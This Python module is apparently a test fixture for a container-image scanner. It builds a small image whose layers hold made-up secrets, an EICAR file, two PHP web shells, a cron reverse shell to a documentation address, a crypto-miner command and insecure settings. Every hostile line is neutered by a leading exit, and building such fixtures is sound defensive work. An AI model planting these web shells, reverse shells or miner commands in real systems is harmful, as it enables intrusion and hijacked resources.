"""One of each problem, planted in a small image: harmless, made up, in different layers, some of it deleted later.

Nothing here is a real secret or a working piece of malware: secrets are made up when the image is built, and what
looks like malware ends in its first line, or speaks to addresses that are kept for documentation (RFC 5737).
"""

import base64
import io
import struct
import tarfile
import zipfile
from collections.abc import Mapping

from msgspec import Struct

from holdfast.range.made_up import aws_pair, characters, eicar, github_token, ssh_key

CONFIGURATION = -1
"""Stands for the layer where a problem is in the image's configuration."""


class Planted(Struct, frozen=True):
    """A problem that is in the image: the rule that should find it, where, in which layer, and which one deletes it.

    `layer` counts the planted layers from 0. `place` is the path, or the part of the configuration.
    """

    rule: str
    place: str
    layer: int
    deleted_by: int | None = None


class PlantedLayer(Struct, frozen=True):
    """A layer's uncompressed tar, and its line of history."""

    tar: bytes
    created_by: str


PLANTED = (
    Planted("secret.aws-access-key", "srv/shop/.env", 0, deleted_by=1),
    Planted("secret.github-pat", "srv/shop/config/deploy.txt", 0),
    Planted("secret.openssh-private-key", "root/.ssh/id_ed25519", 0, deleted_by=2),
    Planted("secret.stripe-secret-key", "srv/shop/config/payment.reg", 1),
    Planted("secret.kubernetes-secret-manifest", "srv/shop/deploy/secret.yaml", 1),
    Planted("secret.npmrc-auth-token", "srv/shop/vendor.tgz!/vendor/.npmrc", 1),
    Planted("secret.postgres-url", "environment DATABASE_URL", CONFIGURATION),
    Planted("secret.gitlab-pat", "argument DEPLOY_TOKEN", CONFIGURATION),
    Planted("malware.eicar", "srv/shop/uploads/report.com", 1, deleted_by=2),
    Planted("malware.php-web-shell", "srv/shop/uploads/avatar.php", 1),
    Planted("malware.php-web-shell", "srv/shop/uploads/theme.zip!/theme/footer.php", 2),
    Planted("malware.miner-command", "usr/local/bin/warm-cache", 2),
    Planted("malware.shell-bash-tcp", "etc/cron.d/sync", 2),
    Planted("image.setuid-file", "usr/local/bin/backup", 0),
    Planted("image.world-writable", "srv/shop/start.sh", 0),
    Planted("image.file-capabilities", "usr/local/bin/probe", 2),
    Planted("image.empty-password", "etc/shadow", 0),
    Planted("image.nginx-directory-listing", "etc/nginx/conf.d/shop.conf", 1),
    Planted("image.sshd-root-login", "etc/ssh/sshd_config", 1),
    Planted("image.ssh-daemon", "usr/sbin/sshd", 1),
    Planted("image.redis-open", "etc/redis/redis.conf", 1),
    Planted("image.repository-left", "srv/shop/.git/HEAD", 0),
    Planted("image.env-file", "srv/shop/.env.production", 1),
    Planted("image.root-user", "", CONFIGURATION),
    Planted("image.exposed-port", "", CONFIGURATION),
    Planted("image.sensitive-volume", "", CONFIGURATION),
    Planted("image.tls-verification-off", "", CONFIGURATION),
)
"""What is wrong with the image, besides old packages."""


def run_configuration() -> dict[str, object]:
    """How the image's containers run."""
    password = characters("database", 18)
    return {
        "Cmd": ["/srv/shop/start.sh"],
        "Env": [
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            f"DATABASE_URL=postgres://shop:{password}@db.internal:5432/shop",
            "NODE_TLS_REJECT_UNAUTHORIZED=0",
        ],
        "ExposedPorts": {"22/tcp": {}, "8080/tcp": {}},
        "Volumes": {"/proc": {}},
        "Labels": {"org.opencontainers.image.title": "shop"},
    }


def history() -> tuple[str, ...]:
    """The lines of history that make no layer."""
    token = "glpat-" + characters("gitlab", 20)
    return (
        "ARG DEPLOY_TOKEN",
        f"|1 DEPLOY_TOKEN={token} /bin/sh -c true",
        "EXPOSE 22/tcp 8080/tcp",
        "VOLUME [/proc]",
        'CMD ["/srv/shop/start.sh"]',
    )


def planted_layers() -> tuple[PlantedLayer, ...]:
    """The layers, the lowest first."""
    return (
        PlantedLayer(_tar(_copied()), "COPY . /srv/shop # buildkit"),
        PlantedLayer(_tar(_configured()), "RUN ./configure.sh && rm /srv/shop/.env # buildkit"),
        PlantedLayer(_tar(_deployed(), {"usr/local/bin/probe": _NET_RAW}), "RUN ./deploy.sh # buildkit"),
    )


# vfs_cap_data, version 2, effective: CAP_NET_RAW permitted (linux/capability.h).
_NET_RAW = struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0)

_Entry = bytes | str | tuple[int, str]


def _copied() -> dict[str, _Entry]:
    key, secret = aws_pair()
    return {
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nshop:x:1000:1000::/srv/shop:/bin/sh\n",
        "etc/shadow": (0o640, "root:*:19000:0:99999:7:::\nshop::19000:0:99999:7:::\n"),
        "root/.ssh/id_ed25519": (0o600, ssh_key()),
        "srv/shop/.env": f"AWS_ACCESS_KEY_ID={key}\nAWS_SECRET_ACCESS_KEY={secret}\n",
        "srv/shop/.git/HEAD": "ref: refs/heads/main\n",
        "srv/shop/config/deploy.txt": f"# used by the nightly job\ntoken: {github_token()}\n",
        "srv/shop/start.sh": (0o777, "#!/bin/sh\nexec python3 /srv/shop/app.py\n"),
        "usr/local/bin/backup": (0o4755, "#!/bin/sh\ntar cf /backup.tar /srv\n"),
    }


def _configured() -> dict[str, _Entry]:
    stripe = "sk_" + "live_" + characters("stripe", 24)
    manifest = base64.b64encode(characters("kubernetes", 24).encode()).decode()
    return {
        "etc/nginx/conf.d/shop.conf": "server {\n  listen 80;\n  location /files {\n    autoindex on;\n  }\n}\n",
        "etc/redis/redis.conf": "bind 0.0.0.0\nprotected-mode no\n",
        "etc/ssh/sshd_config": "Port 22\nPermitRootLogin yes\n",
        "usr/sbin/sshd": (0o755, "#!/bin/sh\nexit 0\n"),
        "srv/shop/.env.production": "DEBUG=0\n",
        "srv/shop/.wh..env": "",
        # As a tool on Windows exports it.
        "srv/shop/config/payment.reg": f'"StripeKey"="{stripe}"\r\n'.encode("utf-16"),
        "srv/shop/deploy/secret.yaml": (
            f"apiVersion: v1\nkind: Secret\nmetadata:\n  name: shop\ndata:\n  password: {manifest}\n"
        ),
        "srv/shop/uploads/avatar.php": "<?php exit; @eval(base64_decode($_POST['c'])); ?>\n",
        "srv/shop/uploads/report.com": eicar(),
        "srv/shop/vendor.tgz": _tar_gz({"vendor/.npmrc": f"//registry.npmjs.org/:_authToken={_npm_token()}\n"}),
    }


def _deployed() -> dict[str, _Entry]:
    return {
        "etc/cron.d/sync": "*/5 * * * * root exit; bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n",
        "root/.ssh/.wh.id_ed25519": "",
        "srv/shop/uploads/.wh.report.com": "",
        "srv/shop/uploads/theme.zip": _zip({"theme/footer.php": b"<?php exit; system($_GET['cmd']); ?>\n"}),
        "usr/local/bin/probe": (0o755, "#!/bin/sh\nexit 0\n"),
        "usr/local/bin/warm-cache": (
            0o755,
            "#!/bin/sh\nexit 0\n./warm -o stratum+tcp://192.0.2.7:3333 -u wallet.shop -p x --donate-level 1\n",
        ),
    }


def _npm_token() -> str:
    return (
        characters("npm", 8).lower() + "-" + "-".join(characters(f"npm {n}", 4, "0123456789abcdef") for n in range(3))
    )


def _zip(files: Mapping[str, bytes]) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return sink.getvalue()


def _tar_gz(files: Mapping[str, _Entry]) -> bytes:
    from isal import igzip

    return igzip.compress(_tar(files), mtime=0)


def _tar(entries: Mapping[str, _Entry], capabilities: Mapping[str, bytes] = {}) -> bytes:
    """A layer's tar, of text or bytes, or of a mode and text, by path."""
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for path, thing in sorted(entries.items()):
            mode, content = thing if isinstance(thing, tuple) else (0o644, thing)
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(path)
            info.mode, info.size, info.uname, info.gname = mode, len(data), "root", "root"
            if path in capabilities:
                value = capabilities[path].decode("utf-8", "surrogateescape")
                info.pax_headers = {"SCHILY.xattr.security.capability": value}
            archive.addfile(info, io.BytesIO(data))
    return sink.getvalue()
